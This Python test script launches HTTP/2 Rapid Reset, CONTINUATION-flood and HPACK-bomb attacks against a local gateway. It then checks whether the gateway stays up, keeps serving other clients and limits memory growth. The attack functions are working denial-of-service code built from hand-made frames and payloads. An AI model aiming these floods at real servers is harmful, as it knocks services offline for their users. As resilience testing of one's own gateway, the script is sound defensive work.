#!/usr/bin/env python3
"""HTTP/2 attacks against a gateway on 127.0.0.1, each followed by a check that the gateway is
still up and serves other clients:

  rapid-reset    one connection opens and resets streams as fast as it can (CVE-2023-44487)
  continuation   one header block sent as an endless run of CONTINUATION frames (the 2024
                 CONTINUATION flood): the gateway must cut the connection, not buffer it
  hpack-bomb     a large header inserted into the HPACK table once, then referenced thousands of
                 times in one request: the decoded size must be refused, not allocated

Usage: h2_attacks.py PORT PID   (PID: the gateway process, whose RSS is watched)
Exits 1 on any finding.
"""
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

PORT = int(sys.argv[1])
PID = int(sys.argv[2])
HOST = "localhost"
findings = []


def rss_kib():
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def alive():
    try:
        with open(f"/proc/{PID}/status") as f:
            return "zombie" not in f.read()
    except FileNotFoundError:
        return False


def tls():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    s = socket.create_connection(("127.0.0.1", PORT), timeout=10)
    s = ctx.wrap_socket(s, server_hostname=HOST)
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    return s


def connect():
    """A new HTTP/2 connection with its preface sent: (socket, h2 connection)."""
    s = tls()
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    return s, c


def headers(path="/v1/models"):
    return [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", path)]


def get_ok(timeout=5.0):
    """A normal request on a new connection: its status, or None."""
    try:
        s = tls()
        s.settimeout(timeout)
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        c.send_headers(1, headers(), end_stream=True)
        s.sendall(c.data_to_send())
        deadline = time.time() + timeout
        while time.time() < deadline:
            data = s.recv(65536)
            if not data:
                return None
            for e in c.receive_data(data):
                if isinstance(e, h2.events.ResponseReceived):
                    return int(dict(e.headers)[b":status"])
            s.sendall(c.data_to_send())
    except OSError:
        return None
    return None


def drain(s, c, seconds):
    """Reads until the peer closes or `seconds` pass; returns (goaway error code, closed)."""
    s.settimeout(0.2)
    end = time.time() + seconds
    code = None
    while time.time() < end:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return code, True
        if not data:
            return code, True
        try:
            for e in c.receive_data(data):
                if isinstance(e, h2.events.ConnectionTerminated):
                    code = e.error_code
        except Exception:
            pass
        try:
            s.sendall(c.data_to_send())
        except OSError:
            return code, True
    return code, False


def check_after(name, rss_before):
    status = get_ok()
    grown = (rss_kib() - rss_before) // 1024
    print(f"  after: gateway {'up' if alive() else 'DOWN'}, a new client gets {status}, RSS +{grown} MiB")
    if not alive():
        findings.append(f"{name}: the gateway died")
    elif status != 200:
        findings.append(f"{name}: a new client got {status} afterwards")
    if grown > 200:
        findings.append(f"{name}: RSS grew by {grown} MiB")


def rapid_reset():
    print("rapid-reset: HEADERS + RST_STREAM pairs as fast as possible for 3 s, reconnecting when cut")
    before = rss_kib()
    s, c = connect()
    sent, stream, closed, reconnects = 0, 1, False, 0
    end = time.time() + 3
    # Other clients, on their own connections, all through the attack.
    during = []
    def probe():
        while time.time() < end:
            during.append(get_ok(timeout=5))
            time.sleep(0.2)
    prober = threading.Thread(target=probe)
    prober.start()
    s.settimeout(0.001)
    while time.time() < end:
        try:
            for _ in range(100):
                c.send_headers(stream, headers(), end_stream=True)
                c.reset_stream(stream)
                stream += 2
                sent += 1
        except h2.exceptions.ProtocolError:
            # The gateway's GOAWAY arrived: this connection is done.
            closed = True
        try:
            if not closed:
                s.sendall(c.data_to_send())
        except (OSError, ssl.SSLError):
            closed = True
        try:
            data = b"" if closed else s.recv(65536)
            if not data:
                closed = True
            else:
                c.receive_data(data)
        except (socket.timeout, ssl.SSLWantReadError):
            pass
        except Exception:
            closed = True
        # Once cut, the attacker reconnects and carries on until the time is up.
        if closed and time.time() < end:
            s.close()
            s, c = connect()
            s.settimeout(0.001)
            stream, closed, reconnects = 1, False, reconnects + 1
    prober.join()
    served = sum(1 for d in during if d == 200)
    print(f"  {sent} streams opened and reset over {reconnects + 1} connection(s) (the gateway cut {reconnects}); other clients during the attack: {served} of {len(during)} served")
    if not during or served != len(during):
        findings.append(f"rapid-reset: other clients during the attack got {during}")
    s.close()
    check_after("rapid-reset", before)


def continuation_flood():
    print("continuation: one header block as CONTINUATION frames, 16 KiB each, up to 64 MiB")
    before = rss_kib()
    s, c = connect()
    # A HEADERS frame without END_HEADERS: type 1, flags END_STREAM only, stream 1.
    block = c.encoder.encode(headers())
    frame = lambda t, flags, payload: len(payload).to_bytes(3, "big") + bytes([t, flags]) + (1).to_bytes(4, "big") + payload
    s.sendall(frame(0x1, 0x1, block))
    junk = b"\x40\x03x-a\x88" + b"a" * 8  # literal header, incremental indexing, repeated
    chunk = frame(0x9, 0x0, (junk * (16384 // len(junk)))[:16384])
    sent, closed = 0, False
    s.settimeout(2)
    try:
        while sent < 4096:
            s.sendall(chunk)
            sent += 1
    except (OSError, ssl.SSLError):
        closed = True
    code, closed_after = drain(s, c, 3)
    closed = closed or closed_after
    print(f"  {sent * 16} KiB of CONTINUATION sent before the gateway {'cut the connection' if closed else 'still held it'} (GOAWAY {code})")
    if not closed:
        findings.append("continuation: the gateway kept buffering an unending header block")
    s.close()
    check_after("continuation", before)


def hpack_bomb():
    print("hpack-bomb: a 4 KiB header indexed once, then referenced 16 000 times in one request")
    before = rss_kib()
    s, c = connect()
    big = b"b" * 4000
    # Literal with incremental indexing, new name: 0x40, name, value.
    def string(b):
        n = len(b)
        if n < 127:
            return bytes([n]) + b
        out = bytearray([127])
        n -= 127
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out) + b

    block = c.encoder.encode(headers()) + b"\x40" + string(b"x-bomb") + string(big)
    # Dynamic table index 62 is the entry just added: indexed header field 0x80 | 62 = 0xbe.
    block += b"\xbe" * 16000
    frame = lambda t, flags, payload, sid=1: len(payload).to_bytes(3, "big") + bytes([t, flags]) + sid.to_bytes(4, "big") + payload
    # The block fits one frame of the default 16 KiB maximum plus CONTINUATIONs.
    pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    out = frame(0x1, 0x1 | (0x4 if len(pieces) == 1 else 0), pieces[0])
    for i, p in enumerate(pieces[1:], 1):
        out += frame(0x9, 0x4 if i == len(pieces) - 1 else 0, p)
    try:
        s.sendall(out)
    except OSError:
        pass
    status = None
    code, closed = None, False
    s.settimeout(0.5)
    end = time.time() + 5
    while time.time() < end:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            closed = True
            break
        if not data:
            closed = True
            break
        try:
            for e in c.receive_data(data):
                if isinstance(e, h2.events.ResponseReceived):
                    status = int(dict(e.headers)[b":status"])
                elif isinstance(e, h2.events.StreamReset):
                    code = f"RST_STREAM {e.error_code}"
                elif isinstance(e, h2.events.ConnectionTerminated):
                    code = f"GOAWAY {e.error_code}"
        except Exception as e:
            code = f"protocol error ({type(e).__name__})"
        if status or code:
            break
    print(f"  answer: status {status}, {code}, connection {'closed' if closed else 'open'}")
    if status is not None and status < 400:
        findings.append(f"hpack-bomb: a 64 MB header list was accepted ({status})")
    s.close()
    check_after("hpack-bomb", before)


if get_ok() != 200:
    sys.exit(f"the gateway on port {PORT} does not answer GET /v1/models with 200 over h2")
for attack in (rapid_reset, continuation_flood, hpack_bomb):
    attack()
if findings:
    print("FINDINGS:\n  " + "\n  ".join(findings))
    sys.exit(1)
print("h2 attacks: 3 of 3 withstood")
